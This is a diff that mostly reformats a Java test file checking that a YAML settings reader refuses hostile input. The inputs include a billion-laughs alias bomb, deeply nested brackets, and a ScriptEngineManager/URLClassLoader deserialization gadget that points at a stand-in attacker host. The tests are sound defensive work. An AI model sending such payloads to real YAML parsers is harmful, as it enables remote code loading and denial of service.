@@ -1,7 +1,6 @@
 package dev.strata.store;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 
 import dev.strata.config.SettingKey;
@@ -33,22 +32,45 @@ class HostileYamlTest {
 
     @Test
     void billion_laughs_is_refused_at_the_first_alias_without_expanding_anything() {
-        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+        StringBuilder yaml =
+                new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
         for (char c = 'b'; c <= 'j'; c++) {
             char p = (char) (c - 1);
-            yaml.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
-                    .append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p)
-                    .append(",*").append(p).append(",*").append(p).append("]\n");
+            yaml.append(c)
+                    .append(": &")
+                    .append(c)
+                    .append(" [*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append(",*")
+                    .append(p)
+                    .append("]\n");
         }
-        assertThat(refusal(utf8(yaml.toString()))).isEqualTo("uses a YAML alias (*a); aliases are not supported,"
-                + " write the value out at line 2, column 8");
+        assertThat(refusal(utf8(yaml.toString())))
+                .isEqualTo("uses a YAML alias (*a); aliases are not supported,"
+                        + " write the value out at line 2, column 8");
     }
 
     @Test
     void ten_thousand_levels_of_nesting_are_refused_quickly() {
-        assertThat(refusal(utf8("a: " + "[".repeat(10_000) + "]".repeat(10_000)))).contains("nest");
+        assertThat(refusal(utf8("a: " + "[".repeat(10_000) + "]".repeat(10_000))))
+                .contains("nest");
         assertThat(refusal(utf8("a:\n  " + "- ".repeat(10_000) + "x\n"))).contains("nest");
-        assertThat(refusal(utf8("{a: ".repeat(10_000) + "1" + "}".repeat(10_000)))).contains("nest");
+        assertThat(refusal(utf8("{a: ".repeat(10_000) + "1" + "}".repeat(10_000))))
+                .contains("nest");
     }
 
     @Test
@@ -64,15 +86,18 @@ class HostileYamlTest {
     @Test
     void duplicate_keys_are_refused_with_the_key_and_line_named() {
         assertThat(refusal(utf8("a: 1\nb: 2\na: 3\n"))).contains("Duplicate", "\"a\"", "line 3");
-        assertThat(refusal(utf8("a:\n  b: 1\na.b: 2\n"))).isEqualTo("key a.b appears more than once (first on line 2) at line 3, column 6");
+        assertThat(refusal(utf8("a:\n  b: 1\na.b: 2\n")))
+                .isEqualTo("key a.b appears more than once (first on line 2) at line 3, column 6");
     }
 
     @Test
     void a_java_type_tag_is_refused_and_nothing_is_instantiated() {
         int before = Detonator.CONSTRUCTED.get();
         assertThat(refusal(utf8("a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
-                + " [\"http://attacker.example/\"]]]]\n"))).contains("uses the YAML tag tag:yaml.org,2002:javax.script.ScriptEngineManager",
-                "custom tags are not allowed");
+                        + " [\"http://attacker.example/\"]]]]\n")))
+                .contains(
+                        "uses the YAML tag tag:yaml.org,2002:javax.script.ScriptEngineManager",
+                        "custom tags are not allowed");
         assertThat(refusal(utf8("a: !!dev.strata.store.Detonator boom\n"))).contains("custom tags are not allowed");
         assertThat(refusal(utf8("a: !<tag:example.com:x> boom\n"))).contains("custom tags are not allowed");
         assertThat(Detonator.CONSTRUCTED.get()).isEqualTo(before);
@@ -90,7 +115,8 @@ class HostileYamlTest {
         assertThat(refusal(utf8("bad key: 1\n"))).contains("key 'bad key'", "' ' (U+0020)", "line 1");
         assertThat(refusal(utf8("- a\n- b\n"))).isEqualTo("must be a map of keys to values");
         assertThat(refusal(utf8("a: [1\n"))).startsWith("is not valid YAML");
-        assertThat(refusal(new byte[] {'a', ':', ' ', (byte) 0xC3, (byte) 0x28})).startsWith("is not valid YAML");
+        assertThat(refusal(new byte[] {'a', ':', ' ', (byte) 0xC3, (byte) 0x28}))
+                .startsWith("is not valid YAML");
         assertThat(refusal(utf8("a: 1\n---\nb: 2\n"))).isEqualTo("holds more than one YAML document");
     }
 
@@ -106,8 +132,14 @@ class HostileYamlTest {
                 EMPTY:
                 quoted: 'x'
                 """));
-        assertThat(settings.values()).containsOnlyKeys(new SettingKey("server.port"), new SettingKey("server.ssl.enabled"),
-                new SettingKey("hosts[0]"), new SettingKey("hosts[1]"), new SettingKey("EMPTY"), new SettingKey("quoted"));
+        assertThat(settings.values())
+                .containsOnlyKeys(
+                        new SettingKey("server.port"),
+                        new SettingKey("server.ssl.enabled"),
+                        new SettingKey("hosts[0]"),
+                        new SettingKey("hosts[1]"),
+                        new SettingKey("EMPTY"),
+                        new SettingKey("quoted"));
         assertThat(settings.get(new SettingKey("server.ssl.enabled"))).contains("true");
         assertThat(settings.get(new SettingKey("EMPTY"))).contains("");
         assertThat(SettingsFile.read(utf8(""))).isEqualTo(Settings.EMPTY);
